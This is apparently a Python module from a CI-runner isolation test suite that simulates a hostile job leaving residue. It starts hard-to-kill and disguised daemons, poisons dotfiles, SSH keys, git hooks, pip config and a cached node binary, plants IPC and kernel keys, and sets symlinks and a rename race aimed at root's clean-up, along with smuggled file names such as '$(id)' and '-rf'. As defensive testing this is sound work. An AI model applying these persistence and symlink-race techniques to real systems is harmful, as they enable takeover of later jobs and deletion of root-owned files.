"""What the job leaves behind: processes, files, IPC, keys. The next job, and root, look for it."""

from __future__ import annotations

import contextlib
import ctypes
import os
import shutil
import signal
import socket
import sys
import time
from pathlib import Path

from .report import attempt, config

LIBC = ctypes.CDLL(None, use_errno=True)
KEY_CALLS = {"add_key": 248, "keyctl": 250}
RINGS = (-1, -2, -3, -4, -5)  # thread, process, session, user, user session
VICTIMS = ("/var/lib/hostile-victim", "/etc/hostile-victim")
STUBBORN = 'trap "" TERM HUP INT QUIT; while :; do /bin/sleep 1; done'


def daemon(name: str, *, fork_twice: bool = True, session: bool = True, script: str = STUBBORN) -> None:
    """Start a process that bears the job's mark in its arguments, and nothing else of the job's."""
    pid = os.fork()
    if pid:
        if fork_twice:
            os.waitpid(pid, 0)
        return
    if session:
        os.setsid()
    if fork_twice and os.fork():
        os._exit(0)
    os.chdir(config()["root"] + "/_work")
    sys.stdout.flush()
    nothing = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(nothing, number)
    words = ["/bin/sh", "-c", script, f"{config()['left_mark']}-{name}"]
    os.execve("/bin/sh", words, {"PATH": "/usr/bin:/bin"})


@attempt("left.double-fork", "leave")
def double_fork() -> None:
    """A daemon in the classical way."""
    daemon("double-fork")


@attempt("left.new-session", "leave")
def new_session() -> None:
    """Its own session, no parent that waits."""
    daemon("new-session", fork_twice=False)


@attempt("left.ignores-signals", "leave")
def ignores_signals() -> None:
    """It ignores all that can be ignored, and was stopped besides."""
    daemon("ignores", script='trap "" TERM HUP INT QUIT; kill -STOP $$; while :; do /bin/sleep 1; done')


@attempt("left.respawning", "leave")
def respawning() -> None:
    """Each lives for a moment, and starts the next: a list of processes is old before it is read."""
    again = 'setsid /bin/sh -c "$AGAIN" "$0" & /bin/sleep 0.05'
    pid = os.fork()
    if pid == 0:
        os.setsid()
        mark = f"{config()['left_mark']}-respawn"
        nothing = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(nothing, number)
        os.execve("/bin/sh", ["/bin/sh", "-c", again, mark], {"PATH": "/usr/bin:/bin", "AGAIN": again})


@attempt("left.named-like-a-worker", "leave")
def named_like_a_worker() -> None:
    """A process whose name says that a job runs: a slot that looks busy for ever is never updated."""
    place = os.path.expanduser("~/Runner.Worker")
    shutil.copy("/bin/sleep", place)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.execve(place, [place, "3600", f"{config()['left_mark']}-worker"][:2], {})


@attempt("left.holds-gpu", "leave")
def holds_gpu() -> None:
    """A process that keeps its GPU's node, and what it has of the GPU's memory."""
    own = " ".join(config()["own_devices"][:1])
    daemon("holds-gpu", script=f"true 9<>{own} && exec 9<>{own}; {STUBBORN}" if own else STUBBORN)


@attempt("left.home", "leave")
def home() -> None:
    """What shells, git, ssh, pip and Python run or read at their start."""
    mark = config()["left_mark"]
    lines = {
        ".bashrc": f"echo {mark}",
        ".profile": f"echo {mark}",
        ".bash_profile": f"echo {mark}",
        ".ssh/authorized_keys": f"ssh-ed25519 {mark}",
        ".ssh/config": f"# {mark}",
        ".gitconfig": f"[core]\n\thooksPath = /tmp/{mark}",
        ".config/pip/pip.conf": f"[global]\nindex-url = https://{mark}.invalid/",
        ".config/systemd/user/x.service": mark,
        ".local/bin/bash": "#!/bin/sh\necho hostile\n",
        ".local/lib/python3.11/site-packages/usercustomize.py": f"print('{mark}')",
        ".docker/config.json": mark,
        ".netrc": mark,
        ".npmrc": mark,
    }
    for name, text in lines.items():
        path = Path.home() / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text + "\n", encoding="ascii")


@attempt("left.work", "leave")
def work() -> None:
    """The workspace, actions and tools that the next job may use unasked."""
    mark = config()["left_mark"]
    for name in (
        "canary",
        "widgets/widgets/canary",
        "_actions/actions/checkout/v4/action.yml",
        "_temp/canary",
    ):
        path = Path(config()["root"]) / "_work" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(mark, encoding="ascii")


@attempt("left.tool-cache", "leave")
def tool_cache() -> None:
    """A tool in the cache that later jobs take their tools from."""
    path = Path(config()["root"]) / "_work/_tool/node/20.0.0/x64/bin/node"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\necho {config()['left_mark']}\n", encoding="ascii")


@attempt("left.temporary", "leave")
def temporary() -> None:
    """Temporary places."""
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"):
        with contextlib.suppress(OSError):
            Path(place, config()["left_mark"]).write_text("x", encoding="ascii")


@attempt("left.ipc", "leave")
def ipc() -> None:
    """System V and POSIX memory, semaphores and queues."""
    LIBC.shmget(0x48, 4096, 0o1666)
    LIBC.semget(0x48, 1, 0o1666)
    LIBC.msgget(0x48, 0o1666)
    with contextlib.suppress(OSError, AttributeError):
        ctypes.CDLL("librt.so.1").mq_open(b"/hostile", os.O_CREAT | os.O_RDWR, 0o666, None)


@attempt("left.keyring", "leave")
def keyring() -> None:
    """Keys in each ring the kernel lets it reach."""
    for ring in RINGS:
        LIBC.syscall(KEY_CALLS["add_key"], b"user", b"hostile", b"secret", 6, ring)


@attempt("left.links", "leave")
def links() -> None:
    """Links where root will clean up, to what is root's: a clean-up that follows one would remove it."""
    work, own = Path(config()["root"]) / "_work", Path.home()
    for number, victim in enumerate(VICTIMS):
        for place in (work, own, work / "_tool", Path.cwd()):
            with contextlib.suppress(OSError):
                os.symlink(victim, place / f"link{number}")
                os.symlink(f"{victim}/file", place / f"link-to-file{number}")
    # In the place of directories that are known to be removed, and emptied, by name.
    for name in ("_temp", "_actions", "_PipelineMapping"):
        with contextlib.suppress(OSError):
            os.rename(work / name, work / f"moved{name}")
            os.symlink(VICTIMS[0], work / name)


@attempt("left.strange-files", "leave")
def strange_files() -> None:
    """Deeper than can be walked by names, unreadable, endless, odd names, pipes and sockets."""
    for name in (b"line\nbreak", b"\xff\xfe", b"-rf", b"\x1b[31mred", b"$(id)", b"a" * 250):
        os.makedirs(name, exist_ok=True)
        Path(os.fsdecode(name), "x").write_text("x", encoding="ascii")
    os.mkfifo("pipe")
    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as server:
        server.bind("socket")
    with contextlib.suppress(OSError):
        os.truncate(os.open("sparse", os.O_CREAT | os.O_RDWR), 1 << 40)
    os.makedirs("locked2/inner")
    os.chmod("locked2/inner", 0)
    os.chmod("locked2", 0)
    os.chdir(Path.home())
    for _ in range(2500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(config()["root"] + "/_work")


@attempt("left.race", "leave")
def race() -> None:
    """A directory that turns into a link and back, thousands of times a second, while root cleans up."""
    place = Path(config()["root"]) / "_work" / "race"
    place.mkdir()
    os.symlink(VICTIMS[0], place / "link")
    (place / "turning").mkdir()
    for number in range(50):
        (place / "turning" / f"file{number}").write_text("x", encoding="ascii")
    pid = os.fork()
    if pid:
        return
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for number in range(3):
        os.dup2(nothing, number)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.environ.pop("RUNNER_TRACKING_ID", None)
    until = time.monotonic() + 30
    while time.monotonic() < until:  # RENAME_EXCHANGE
        if LIBC.renameat2(-100, bytes(place / "link"), -100, bytes(place / "turning"), 2):
            time.sleep(0.01)
    os._exit(0)
